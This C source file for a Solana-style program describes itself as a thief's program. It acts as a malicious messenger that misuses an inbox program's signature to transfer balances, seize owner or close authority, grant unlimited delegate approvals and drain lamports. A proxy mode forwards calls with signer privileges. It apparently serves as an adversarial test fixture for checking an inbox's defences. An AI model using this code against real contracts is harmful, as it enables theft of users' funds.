// SPDX-License-Identifier: Apache-2.0
/* Programs of a thief: a messenger that abuses the inbox's signature, and a proxy that calls another program.
 *
 * Called with the accounts and data of deposit_for_burn it is a messenger; byte 80 of the account in place of the local token selects what it
 * does. Called with anything else it passes accounts, privileges and data on to the program that is the last account.
 */
#include "support.h"

enum { OWNER, TOKEN_ACCOUNT = 3, TARGET = 5, LOCAL = 9, MINT, CALLBACK = 12, TOKEN = 14, SYSTEM, BURN_ACCOUNTS = 18, BURN_SIZE = 96 };
enum { MODE_OFFSET = 80 };
enum {
    MODE_TRANSFER,      /* sends the balance to TARGET */
    MODE_CALL_BACK,     /* calls the program CALLBACK */
    MODE_IDLE,          /* burns nothing */
    MODE_OWNER,         /* burns, then makes TARGET the owner */
    MODE_DELEGATE,      /* burns, then makes TARGET the delegate */
    MODE_CLOSER,        /* burns, then makes TARGET the close authority */
    MODE_LESS,          /* burns all but one unit */
    MODE_LAMPORTS,      /* burns, then transfers the inbox's lamports */
    MODE_OTHER_ACCOUNT  /* burns, then makes itself the delegate of TARGET, another token account of the inbox */
};
enum { TRANSFER = 3, APPROVE = 4, SET_AUTHORITY = 6, BURN = 8, SYSTEM_TRANSFER = 2, ROLE_OWNER = 2, ROLE_CLOSER = 3 };

FUNCTION u64 invoke(const Call *call, const Key *program, const Meta *metas, u64 metaCount, const Slice *data) {
    Instruction instruction = { program, metas, metaCount, data->at, data->size };
    return sol_invoke_signed_c(&instruction, call->accounts, call->accountCount, 0, 0);
}

FUNCTION u64 forward(const Call *call) {
    const Account *a = call->accounts;
    u64 count = call->accountCount - 1;
    Meta metas[ACCOUNTS_MAX];
    for (u64 i = 0; i < count; i++) setMeta(&metas[i], &a[i], (u64)a[i].isWritable | (u64)a[i].isSigner << 8);
    Slice data;
    setSlice(&data, call->data, call->dataSize);
    return invoke(call, a[count].key, metas, count, &data);
}

/* Transfer or Burn by the inbox's signature. */
FUNCTION u64 moveTokens(const Call *call, u8 tag, u64 less) {
    const Account *a = call->accounts;
    Meta metas[3];
    setMeta(&metas[0], &a[TOKEN_ACCOUNT], WRITE);
    setMeta(&metas[1], tag == BURN ? &a[MINT] : &a[TARGET], WRITE);
    setMeta(&metas[2], &a[OWNER], SIGN);
    u8 data[9];
    data[0] = tag;
    writeInteger(data + 1, readWord(a[TOKEN_ACCOUNT].data + 64) - less, 8);
    Slice slice;
    setSlice(&slice, data, 9);
    return invoke(call, a[less == 0 && tag == 0 ? CALLBACK : TOKEN].key, metas, 3, &slice);
}

FUNCTION u64 setAuthority(const Call *call, u8 role) {
    const Account *a = call->accounts;
    Meta metas[2];
    setMeta(&metas[0], &a[TOKEN_ACCOUNT], WRITE);
    setMeta(&metas[1], &a[OWNER], SIGN);
    u8 data[35];
    data[0] = SET_AUTHORITY;
    data[1] = role;
    data[2] = 1;
    copyBytes(data + 3, a[TARGET].key, 32);
    Slice slice;
    setSlice(&slice, data, 35);
    return invoke(call, a[TOKEN].key, metas, 2, &slice);
}

FUNCTION u64 approve(const Call *call, const Account *account, const Account *delegate) {
    const Account *a = call->accounts;
    Meta metas[3];
    setMeta(&metas[0], account, WRITE);
    setMeta(&metas[1], delegate, READ);
    setMeta(&metas[2], &a[OWNER], SIGN);
    u8 data[9];
    data[0] = APPROVE;
    writeInteger(data + 1, ~0ul, 8);
    Slice slice;
    setSlice(&slice, data, 9);
    return invoke(call, a[TOKEN].key, metas, 3, &slice);
}

FUNCTION u64 takeLamports(const Call *call) {
    const Account *a = call->accounts;
    Meta metas[2];
    setMeta(&metas[0], &a[OWNER], WRITE | SIGN);
    setMeta(&metas[1], &a[MINT], WRITE);
    u8 data[12];
    writeInteger(data, SYSTEM_TRANSFER, 4);
    writeInteger(data + 4, *a[OWNER].lamports, 8);
    Slice slice;
    setSlice(&slice, data, 12);
    return invoke(call, a[SYSTEM].key, metas, 2, &slice);
}

FUNCTION u64 actAsMessenger(const Call *call) {
    const Account *a = call->accounts;
    u8 mode = a[LOCAL].data[MODE_OFFSET];
    if (mode == MODE_TRANSFER) return moveTokens(call, TRANSFER, 0);
    if (mode == MODE_CALL_BACK) return moveTokens(call, 0, 0);
    if (mode == MODE_IDLE) return 0;
    u64 failure = moveTokens(call, BURN, mode == MODE_LESS);
    if (failure || mode == MODE_LESS) return failure;
    if (mode == MODE_OWNER) return setAuthority(call, ROLE_OWNER);
    if (mode == MODE_CLOSER) return setAuthority(call, ROLE_CLOSER);
    if (mode == MODE_DELEGATE) return approve(call, &a[TOKEN_ACCOUNT], &a[TARGET]);
    if (mode == MODE_OTHER_ACCOUNT) return approve(call, &a[TARGET], &a[MINT]);
    return takeLamports(call);
}

u64 entrypoint(u8 *input) {
    Call call;
    if (!readInput(input, &call) || call.accountCount == 0) return 1;
    return call.dataSize == BURN_SIZE && call.accountCount == BURN_ACCOUNTS ? actAsMessenger(&call) : forward(&call);
}
